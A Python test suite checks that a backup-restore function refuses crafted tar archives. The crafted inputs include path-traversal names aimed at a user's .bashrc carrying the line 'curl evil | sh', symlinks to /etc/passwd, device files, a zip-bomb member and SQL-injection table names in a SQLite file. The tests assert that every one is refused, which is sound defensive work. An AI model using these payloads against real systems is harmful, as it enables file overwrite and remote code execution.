"""Restore treats a backup archive as hostile input: crafted names, links and devices are refused,
nothing lands outside the workspace, a restore is all or nothing, members stream (a zip bomb does
not fill memory), and truncated archives or malformed manifests end in one clear line."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from tests.helpers import area_app
from workbench.alerts import AlertStore
from workbench.backup import BackupError, backup, read_manifest, restore
from workbench.cli import ops
from workbench.config import Settings

runner = CliRunner()


def craft(path: Path, members: list[tuple[Any, bytes]], *, manifest: dict[str, Any] | None = None,
          listed: dict[str, bytes] | None = None) -> Path:
    """An archive as an attacker would write it: `members` are (name or TarInfo, bytes); the
    manifest lists `listed` (default: every member) with correct checksums, so only the restore's
    own checks stand in the way."""
    files = listed if listed is not None else {
        (m.name if isinstance(m, tarfile.TarInfo) else m): data for m, data in members}
    doc = manifest if manifest is not None else {
        "format": "mantissa-backup", "version": 1, "counts": {},
        "files": {n: {"sha256": hashlib.sha256(d).hexdigest(), "bytes": len(d)} for n, d in files.items()}}
    with tarfile.open(path, "w:gz") as tar:
        head = json.dumps(doc).encode()
        info = tarfile.TarInfo("manifest.json")
        info.size = len(head)
        tar.addfile(info, io.BytesIO(head))
        for member, data in members:
            info = member if isinstance(member, tarfile.TarInfo) else tarfile.TarInfo(member)
            if info.isreg():
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    return path


@pytest.mark.parametrize("name", [
    "runs/{outside}/.bashrc",        # runs//tmp/…: the absolute right-hand side won the path join
    "rules/{outside}/.bashrc",
    "runs/../../escaped",
    "rules/./x/../../../escaped",
    "{outside}/.bashrc",
    "runs\\..\\..\\escaped",
    "notes/elsewhere.txt",
], ids=["runs-absolute", "rules-absolute", "runs-dotdot", "dot-components", "absolute", "backslash", "unknown-top"])
def test_crafted_names_are_refused_and_write_nothing(name: str, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / ".bashrc").write_text("# mine\n")
    member = name.format(outside=outside.as_posix())
    archive = craft(tmp_path / "evil.tar.gz", [(member, b"curl evil | sh\n")])
    ws = tmp_path / "ws"
    with pytest.raises(BackupError, match="refusing") as caught:
        read_manifest(archive)  # --check no longer says "every checksum verified"
    assert "\n" not in str(caught.value)
    for force in (False, True):
        with pytest.raises(BackupError, match="refusing"):
            restore(archive, ws, force=force)
    assert (outside / ".bashrc").read_text() == "# mine\n"
    assert not ws.exists() and not (tmp_path / "escaped").exists()


def _info(name: str, kind: bytes, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


@pytest.mark.parametrize(("member", "kind"), [
    (_info("rules/passwd.yaml", tarfile.SYMTYPE, "/etc/passwd"), "a symbolic link"),
    (_info("rules/hard.yaml", tarfile.LNKTYPE, "manifest.json"), "a hard link"),
    (_info("runs/tty", tarfile.CHRTYPE), "a character device"),
    (_info("runs/disk", tarfile.BLKTYPE), "a block device"),
    (_info("runs/pipe", tarfile.FIFOTYPE), "a FIFO"),
    (_info("rules/sub", tarfile.DIRTYPE), "a directory"),
], ids=["symlink", "hardlink", "chardev", "blockdev", "fifo", "dir"])
def test_links_and_devices_are_refused(member: tarfile.TarInfo, kind: str, tmp_path: Path) -> None:
    archive = craft(tmp_path / "evil.tar.gz", [(member, b"")], listed={member.name: b""})
    with pytest.raises(BackupError, match=f"refusing member '{member.name}': {kind}"):
        restore(archive, tmp_path / "ws")
    assert not (tmp_path / "ws").exists()


def test_a_symlinked_folder_in_the_workspace_is_not_followed_outside(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "rules").symlink_to(outside, target_is_directory=True)
    archive = craft(tmp_path / "b.tar.gz", [("rules/x.yaml", b"id: x\n")])
    with pytest.raises(BackupError, match="resolves outside"):
        restore(archive, ws, force=True)
    assert list(outside.iterdir()) == []


def test_a_backup_config_pointing_runs_outside_is_refused(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    config = f"runs_path: {elsewhere}\n".encode()
    archive = craft(tmp_path / "b.tar.gz", [("config/mantissa.yaml", config), ("runs/x.ipynb", b"{}")])
    with pytest.raises(BackupError, match="runs_path .* is outside the workspace"):
        restore(archive, tmp_path / "ws")
    assert not elsewhere.exists() and not (tmp_path / "ws").exists()


@pytest.mark.parametrize(("members", "message"), [
    ([("rules/a.yaml", b"id: a\n"), ("rules/a.yaml", b"id: a\n")], "appears twice"),
    ([("rules/a.yaml", b"id: b\n")], "checksum mismatch in rules/a.yaml"),  # same size, other bytes
], ids=["duplicate", "same-size-flip"])
def test_altered_members(members: list[tuple[str, bytes]], message: str, tmp_path: Path) -> None:
    archive = craft(tmp_path / "b.tar.gz", members, listed={"rules/a.yaml": b"id: a\n"})
    with pytest.raises(BackupError, match=message):
        restore(archive, tmp_path / "ws")
    assert not (tmp_path / "ws").exists()


def test_manifest_must_come_first(tmp_path: Path) -> None:
    path = tmp_path / "b.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        info = tarfile.TarInfo("rules/a.yaml")
        info.size = 3
        tar.addfile(info, io.BytesIO(b"a: 1"[:3]))
    with pytest.raises(BackupError, match="first member is 'rules/a.yaml', not manifest.json"):
        read_manifest(path)


# ---- all or nothing -------------------------------------------------------------------------------
PAGER_CONFIG = """\
engine: local
routing:
  destinations:
    pager: {type: pagerduty, secret_env: PD_ROUTING_KEY}
    tickets: {type: jira, base_url: https://team.atlassian.net, project: SEC, user: bot@example.com,
              api_token: {secret_env: JIRA_TOKEN}}
nl: {api_key_env: MY_ANTHROPIC_KEY}
"""


def test_secret_env_config_restores_on_a_machine_without_the_secret(workspace: Path, tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """The README's PagerDuty example (`secret_env:`) used to crash restore after mantissa.yaml was
    written; now it restores and names the variables to set."""
    monkeypatch.setenv("PD_ROUTING_KEY", "R0utingKeyFromEnv")
    monkeypatch.setenv("JIRA_TOKEN", "jira-token-value")
    (workspace / "mantissa.yaml").write_text(PAGER_CONFIG)
    (workspace / "rules").mkdir()
    (workspace / "rules" / "r.yaml").write_text("id: r\n")
    from workbench.config import load_settings

    archive = backup(tmp_path / "b.tar.gz", load_settings(workspace)).destination
    monkeypatch.delenv("PD_ROUTING_KEY")
    monkeypatch.delenv("JIRA_TOKEN")
    monkeypatch.delenv("MANTISSA_WORKSPACE")
    report = restore(archive, tmp_path / "new")
    assert report.ok, report.lines()
    assert report.missing_env == ["JIRA_TOKEN", "MY_ANTHROPIC_KEY", "PD_ROUTING_KEY"]
    assert (tmp_path / "new" / "rules" / "r.yaml").read_text() == "id: r\n"
    assert "secret_env: PD_ROUTING_KEY" in (tmp_path / "new" / "mantissa.yaml").read_text()


def test_a_conflict_writes_nothing_at_all(settings: Settings, store: AlertStore, tmp_path: Path) -> None:
    (settings.workspace / "rules").mkdir()
    (settings.workspace / "rules" / "a.yaml").write_text("id: a\n")
    (settings.workspace / "rules" / "b.yaml").write_text("id: b\n")
    archive = backup(tmp_path / "b.tar.gz", settings).destination
    target = tmp_path / "busy"
    (target / "rules").mkdir(parents=True)
    (target / "rules" / "b.yaml").write_text("id: ours\n")
    report = restore(archive, target)
    assert not report.ok and report.conflicts == [f"{target / 'rules' / 'b.yaml'} differs from the backup"]
    assert report.lines()[0].startswith("nothing restored")
    assert sorted(p.name for p in target.rglob("*")) == ["b.yaml", "rules"]  # not a.yaml, no store


def test_a_failed_write_leaves_the_workspace_as_it_was(tmp_path: Path) -> None:
    archive = craft(tmp_path / "b.tar.gz", [("config/mantissa.yaml", b"engine: local\n"),
                                            ("rules/a.yaml", b"id: a\n"), ("runs/detect/x.ipynb", b"{}")])
    target = tmp_path / "ws"
    target.mkdir()
    (target / "runs").write_text("a file where the runs folder should be\n")
    with pytest.raises(BackupError, match=r"cannot write .*x\.ipynb.*nothing was restored"):
        restore(archive, target)
    assert sorted(p.name for p in target.iterdir()) == ["runs"]


# ---- streaming ------------------------------------------------------------------------------------
class Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        n = min(len(buffer), self.left)
        buffer[:n] = bytes(n)
        self.left -= n
        return n


def test_a_huge_member_streams_instead_of_filling_memory(tmp_path: Path) -> None:
    size = 200 << 20  # 200 MiB of zeros: about 200 KB compressed
    digest = hashlib.sha256()
    zeros = Zeros(size)
    while chunk := zeros.read(1 << 20):
        digest.update(chunk)
    doc = {"format": "mantissa-backup", "version": 1, "counts": {},
           "files": {"runs/big.ipynb": {"sha256": digest.hexdigest(), "bytes": size}}}
    path = tmp_path / "bomb.tar.gz"
    with tarfile.open(path, "w:gz", compresslevel=1) as tar:
        head = json.dumps(doc).encode()
        info = tarfile.TarInfo("manifest.json")
        info.size = len(head)
        tar.addfile(info, io.BytesIO(head))
        info = tarfile.TarInfo("runs/big.ipynb")
        info.size = size
        tar.addfile(info, Zeros(size))
    assert path.stat().st_size < 2 << 20

    tracemalloc.start()
    try:
        read_manifest(path)
        report = restore(path, tmp_path / "ws")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert report.ok, report.lines()
    assert (tmp_path / "ws" / "runs" / "big.ipynb").stat().st_size == size
    assert peak < 32 << 20, f"peak Python allocations {peak:,} bytes for a {size:,}-byte member"


# ---- damaged archives: one line -------------------------------------------------------------------
@pytest.fixture()
def app() -> typer.Typer:
    return area_app(ops.register)


def _one_error_line(app: typer.Typer, archive: Path, *extra: str) -> str:
    result = runner.invoke(app, ["restore", str(archive), *extra])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "Aborted" not in result.output, result.output
    return lines[0]


@pytest.mark.parametrize("keep", [0.25, 0.5, 0.9], ids=["quarter", "half", "most"])
def test_truncated_archive_gives_one_line(keep: float, app: typer.Typer, settings: Settings, store: AlertStore,
                                          tmp_path: Path) -> None:
    (settings.state / "history.sqlite").write_bytes(b"")  # something more to cut into
    whole = Path(backup(tmp_path / "b.tar.gz", settings).destination).read_bytes()
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(whole[: int(len(whole) * keep)])
    for extra in (["--check"], ["--workspace", str(tmp_path / "ws")]):
        line = _one_error_line(app, cut, *extra)
        assert str(cut) in line and ("truncated or damaged" in line or "disagree" in line), line
    assert not (tmp_path / "ws").exists()


@pytest.mark.parametrize(("manifest", "message"), [
    (b"{", "manifest.json is not valid JSON (line 1, column 2"),
    (b"[]", "manifest.json is not a JSON object"),
    (b'{"format": "mantissa-backup", "version": 1}', "field 'files' is missing"),
    (b'{"format": "mantissa-backup", "version": "1", "files": {}}', "version '1'"),
    (b'{"format": "mantissa-backup", "version": 1, "files": {"rules/a.yaml": {"bytes": 2}}}',
     "files.rules/a.yaml.sha256 is not 64"),
    (b'{"format": "mantissa-backup", "version": 1, "files": {"rules/a.yaml": {"sha256": "' + b"0" * 64
     + b'", "bytes": -1}}}', "files.rules/a.yaml.bytes is not a byte count"),
    (b'{"format": "other", "version": 1, "files": {}}', "format 'other'"),
    (b"\x80\x81", "manifest.json is not UTF-8"),
], ids=["bad-json", "not-object", "no-files", "version-text", "no-sha", "negative-size", "format", "binary"])
def test_malformed_manifest_gives_one_line(manifest: bytes, message: str, app: typer.Typer, tmp_path: Path) -> None:
    path = tmp_path / "b.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        info = tarfile.TarInfo("manifest.json")
        info.size = len(manifest)
        tar.addfile(info, io.BytesIO(manifest))
    with pytest.raises(BackupError, match=message.replace("(", r"\(").replace(".", r"\.")):
        read_manifest(path)
    assert message in _one_error_line(app, path, "--check")


def test_not_gzip_gives_one_line(app: typer.Typer, tmp_path: Path) -> None:
    path = tmp_path / "b.tar.gz"
    path.write_bytes(gzip.compress(b"not a tar file at all" * 50)[:-30])
    assert "not a gzip-compressed tar archive (truncated header)" in _one_error_line(app, path, "--check")
    path.write_bytes(b"plain text, not gzip")
    assert "not a gzip-compressed tar archive" in _one_error_line(app, path, "--check")


def _history_db(path: Path, extra_sql: str) -> bytes:
    import sqlite3

    from workbench.history import QueryHistory

    QueryHistory(path)  # the real schema
    con = sqlite3.connect(path)
    con.executescript(extra_sql)
    con.commit()
    con.close()
    return path.read_bytes()


@pytest.mark.parametrize(("extra_sql", "message"), [
    ("CREATE TRIGGER t AFTER INSERT ON queries BEGIN DELETE FROM queries; END;", "holds trigger 't'"),
    ("CREATE VIEW v AS SELECT * FROM queries;", "holds view 'v'"),
    ('CREATE TABLE "x"" UNION SELECT 1 --" (a);', "holds table"),
], ids=["trigger", "view", "odd-table"])
def test_a_history_database_with_more_than_history_is_refused(extra_sql: str, message: str, tmp_path: Path) -> None:
    data = _history_db(tmp_path / "h.sqlite", extra_sql)
    archive = craft(tmp_path / "b.tar.gz", [("state/history.sqlite", data)])
    with pytest.raises(BackupError, match=message):
        restore(archive, tmp_path / "ws")
    assert not (tmp_path / "ws").exists()


def test_a_history_member_that_is_not_sqlite_is_refused(tmp_path: Path) -> None:
    archive = craft(tmp_path / "b.tar.gz", [("state/history.sqlite", b"not a database at all")])
    with pytest.raises(BackupError, match="is not an SQLite database"):
        restore(archive, tmp_path / "ws")
